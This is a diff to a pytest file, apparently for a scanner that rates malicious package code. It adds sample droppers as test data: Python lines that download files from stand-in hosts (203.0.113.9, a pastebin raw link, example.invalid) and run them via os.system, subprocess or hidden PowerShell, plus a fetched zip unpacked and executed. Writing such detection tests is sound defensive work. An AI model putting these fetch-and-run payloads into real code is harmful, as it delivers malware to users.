@@ -44,6 +44,25 @@ STARTED_FROM_A_FIXED_ADDRESS += [
     f"os.system('powershell -c Invoke-WebRequest -Uri {URL}.exe -OutFile prog.exe')\nos.system('start prog.exe')",
     f"os.system('wget {URL}.sh -O /tmp/prog.sh')\nsubprocess.run(['sh', '/tmp/prog.sh'])",
 ]
+BARE = "http://203.0.113.9/a"
+FROM_A_PLACE_FOR_PICK_UP = [
+    f"n = requests.get('{BARE}').text\nopen(n, 'wb').write(requests.get('{BARE}').content)\nos.system('./' + n)",
+    f"c = requests.get('{BARE}').text\nsubprocess.Popen(f'powershell.exe -Command {{c}}', shell=True)",
+    f"open('prog.bin', 'wb').write(requests.get('{BARE}').content)\nos.system('start prog.bin')",
+    (
+        "class Dropper:\n    def find(self):\n        return requests.get('https://pastebin.com/raw/a').text\n"
+        "    def fetch(self, url):\n        p = 'C:/Users/a/prog.bin'\n"
+        "        open(p, 'wb').write(requests.get(url).content)\n        return p\n"
+        "d = Dropper()\nos.system('start ' + d.fetch(d.find()))"
+    ),
+]
+UNPACKED = [
+    (
+        f"import zipfile\np = os.getenv('LOCALAPPDATA')\nz = p + '/here.zip'\n"
+        f"open(z, 'wb').write(requests.get('{URL}').content)\n"
+        "zipfile.ZipFile(z).extractall(p + '/folder')\nos.system('py ' + p + '/folder/main.py')"
+    ),
+]
 HIDDEN_POWERSHELL = [
     "subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand " + "QQBCAEMARABFAEYARwBIAEkA" * 2 + "')",
     "os.system('powershell.exe -nop -w hidden -c \"iex (iwr https://example.invalid/a)\"')",
@@ -61,14 +80,16 @@ RUN_BY_OTHERS = [
 ]
 
 
-@pytest.mark.parametrize("source", RUN_AS_IT_COMES + STARTED_FROM_A_FIXED_ADDRESS + HIDDEN_POWERSHELL)
+@pytest.mark.parametrize(
+    "source", RUN_AS_IT_COMES + STARTED_FROM_A_FIXED_ADDRESS + HIDDEN_POWERSHELL + FROM_A_PLACE_FOR_PICK_UP
+)
 def test_what_is_never_innocent(source: str) -> None:
     assert worst(RULE, *at("install", HEAD + source)) == "critical"
     assert worst(RULE, *at("import", HEAD + source)) == "high"
     assert worst(RULE, *at("call", HEAD + source)) == "high"
 
 
-@pytest.mark.parametrize("source", RUN_BY_OTHERS)
+@pytest.mark.parametrize("source", RUN_BY_OTHERS + UNPACKED)
 def test_what_installers_do_when_they_are_called(source: str) -> None:
     assert worst(RULE, *at("install", HEAD + source)) == "critical"
     assert worst(RULE, *at("import", HEAD + source)) == "high"
